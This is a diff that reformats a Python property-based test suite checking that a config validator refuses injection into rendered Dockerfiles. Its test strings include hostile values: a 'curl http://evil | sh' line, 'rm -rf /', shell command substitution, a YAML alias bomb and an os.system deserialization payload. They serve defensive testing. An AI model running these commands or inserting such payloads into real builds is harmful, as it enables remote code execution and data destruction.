@@ -27,9 +27,14 @@ INSTRUCTION = re.compile(r"^(FROM|ARG|ENV|RUN|COPY|USER|ENTRYPOINT|LABEL)\b")
 # The mutation run (tests/unit/mutation.py) asks for fewer examples and no shrinking: it runs these
 # once per mutant, and only needs to know that one fails.
 MUTATION_RUN = "K3_HYPOTHESIS_EXAMPLES" in os.environ
-SETTINGS = settings(max_examples=int(os.environ.get("K3_HYPOTHESIS_EXAMPLES", "150")), deadline=None,
-                    derandomize=True, database=None, suppress_health_check=[HealthCheck.too_slow],
-                    phases=[Phase.explicit, Phase.generate] if MUTATION_RUN else list(Phase))
+SETTINGS = settings(
+    max_examples=int(os.environ.get("K3_HYPOTHESIS_EXAMPLES", "150")),
+    deadline=None,
+    derandomize=True,
+    database=None,
+    suppress_health_check=[HealthCheck.too_slow],
+    phases=[Phase.explicit, Phase.generate] if MUTATION_RUN else list(Phase),
+)
 
 
 def _leaves(node, path=()):
@@ -54,14 +59,44 @@ LEAVES = sorted(_leaves(BASE), key=str)
 # Schema mappings only: these are mappings of user data (names to names, reasons or values).
 USER_DATA = {"rewrites", "waive", "absent", "other_major", "overrides", "env", "third_party"}
 MAPPINGS = sorted((m for m in _mappings(BASE) if not (m[-1:] and m[-1] in USER_DATA)), key=str)
-NASTY = ["\n", "\r", '"', "'", "$(id)", "`id`", "{{ 7 * 7 }}", "{% raw %}", "\\", " ", "\u2028", "\x00",
-         "\nRUN curl http://evil | sh", "${HOME}", "; rm -rf /", "é", "😀"]
+NASTY = [
+    "\n",
+    "\r",
+    '"',
+    "'",
+    "$(id)",
+    "`id`",
+    "{{ 7 * 7 }}",
+    "{% raw %}",
+    "\\",
+    " ",
+    "\u2028",
+    "\x00",
+    "\nRUN curl http://evil | sh",
+    "${HOME}",
+    "; rm -rf /",
+    "é",
+    "😀",
+]
 
 # Characters no pattern in builder/config/matrix.py accepts anywhere: each breaks a line, quotes, expands or
 # escapes in a Dockerfile or a shell. A value holding one is refused at every leaf, whatever its key.
 FORBIDDEN = ["\n", "\r", '"', "`", "$", "\\", "\x00", "\u2028", "{", "}"]
-NASTY = ["\n", "\r", '"', "$(id)", "`id`", "{{ 7 * 7 }}", "{% raw %}", "\\", "\u2028", "\x00",
-         "\nRUN curl http://evil | sh", "${HOME}", "\"; rm -rf /"]
+NASTY = [
+    "\n",
+    "\r",
+    '"',
+    "$(id)",
+    "`id`",
+    "{{ 7 * 7 }}",
+    "{% raw %}",
+    "\\",
+    "\u2028",
+    "\x00",
+    "\nRUN curl http://evil | sh",
+    "${HOME}",
+    '"; rm -rf /',
+]
 assert all(any(c in n for c in FORBIDDEN) for n in NASTY)
 
 hostile_strings = st.one_of(
@@ -72,9 +107,12 @@ hostile_strings = st.one_of(
 # Never the type a leaf has: every leaf of the committed matrix is a string, a date, an integer or a
 # boolean, and strict types take no other (None is left out: optional keys accept it; empty
 # containers too; booleans and floats are not tried on a boolean key).
-wrong_types = st.one_of(st.floats(allow_nan=False), st.booleans(),
-                        st.lists(st.integers(), min_size=1, max_size=3),
-                        st.dictionaries(st.text(min_size=1, max_size=5), st.integers(), min_size=1, max_size=2))
+wrong_types = st.one_of(
+    st.floats(allow_nan=False),
+    st.booleans(),
+    st.lists(st.integers(), min_size=1, max_size=3),
+    st.dictionaries(st.text(min_size=1, max_size=5), st.integers(), min_size=1, max_size=2),
+)
 
 
 def _get(doc, path):
@@ -130,7 +168,7 @@ def _assert_rendered_safely(tmp: Path, value) -> None:
     lines = dockerfile.splitlines()
     found = [INSTRUCTION.match(line).group(1) for line in lines if INSTRUCTION.match(line)]
     assert found == BASELINE  # no new instruction, none lost
-    for prev, line in zip([""] + lines, lines):
+    for prev, line in zip([""] + lines, lines, strict=False):
         # every line is an instruction, a comment, blank, or the continuation of a '\'-ended line
         assert INSTRUCTION.match(line) or line.startswith("#") or not line.strip() or prev.endswith("\\"), line
     if isinstance(value, str) and value and value in dockerfile:
@@ -181,11 +219,16 @@ def test_every_leaf_is_a_string_a_date_an_integer_or_a_boolean():
         assert isinstance(_get(BASE, path), (str, int, bool, __import__("datetime").date)), path
 
 
-@pytest.mark.parametrize("path,value", [
-    (("targets", "cu129", "description"), "K3 (r575): a.b/c_d+e=f@g#h, 1;2-3"),  # every character Text allows
-    (("targets", "cu129", "source", "extensions", "absent", "torch.ops._C.fused_kda_decode"),
-     "a reason with 'quotes', <angle> [brackets] and (parens)"),  # Reason allows more: it is never rendered
-])
+@pytest.mark.parametrize(
+    "path,value",
+    [
+        (("targets", "cu129", "description"), "K3 (r575): a.b/c_d+e=f@g#h, 1;2-3"),  # every character Text allows
+        (
+            ("targets", "cu129", "source", "extensions", "absent", "torch.ops._C.fused_kda_decode"),
+            "a reason with 'quotes', <angle> [brackets] and (parens)",
+        ),  # Reason allows more: it is never rendered
+    ],
+)
 def test_a_valid_unusual_value_renders_without_a_new_instruction(path, value):
     doc = _copy(BASE)
     _set(doc, path, value)
@@ -195,8 +238,9 @@ def test_a_valid_unusual_value_renders_without_a_new_instruction(path, value):
 
 
 @SETTINGS
-@given(path=st.sampled_from(MAPPINGS), key=st.text(min_size=1, max_size=30), value=st.one_of(hostile_strings,
-                                                                                              wrong_types))
+@given(
+    path=st.sampled_from(MAPPINGS), key=st.text(min_size=1, max_size=30), value=st.one_of(hostile_strings, wrong_types)
+)
 def test_unknown_keys_are_refused(path, key, value):
     doc = _copy(BASE)
     node = doc
@@ -213,17 +257,28 @@ def test_unknown_keys_are_refused(path, key, value):
 @given(line_no=st.integers(min_value=0, max_value=200))
 def test_duplicated_lines_are_duplicate_key_errors(line_no):
     lines = (REPO / "matrix.yaml").read_text().splitlines(keepends=True)
-    candidates = [i for i, ln in enumerate(lines) if re.match(r"^\s*[a-z_]+: \S", ln) and not ln.lstrip().startswith("#")]
+    candidates = [
+        i for i, ln in enumerate(lines) if re.match(r"^\s*[a-z_]+: \S", ln) and not ln.lstrip().startswith("#")
+    ]
     i = candidates[line_no % len(candidates)]
-    code, stderr, tmp = _run("".join(lines[: i + 1] + [lines[i]] + lines[i + 1:]))
+    code, stderr, tmp = _run("".join(lines[: i + 1] + [lines[i]] + lines[i + 1 :]))
     _assert_refused_cleanly(code, stderr, tmp)
     assert "duplicate key" in stderr
 
 
 def test_alias_bomb_and_deep_nesting_and_binary():
     bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
-        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n" for p, c in zip("abcdefgh", "bcdefghi"))
-    for text in (bomb, "[" * 50000 + "]" * 50000, "version: 1\ntargets: {}\n", "\x00\x01\x02", "version: 1\n" * 3,
-                 "!!python/object/apply:os.system ['id']\n", "x" * (2 << 20)):
+        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
+        for p, c in zip("abcdefgh", "bcdefghi", strict=False)
+    )
+    for text in (
+        bomb,
+        "[" * 50000 + "]" * 50000,
+        "version: 1\ntargets: {}\n",
+        "\x00\x01\x02",
+        "version: 1\n" * 3,
+        "!!python/object/apply:os.system ['id']\n",
+        "x" * (2 << 20),
+    ):
         code, stderr, tmp = _run(text)
         _assert_refused_cleanly(code, stderr, tmp)
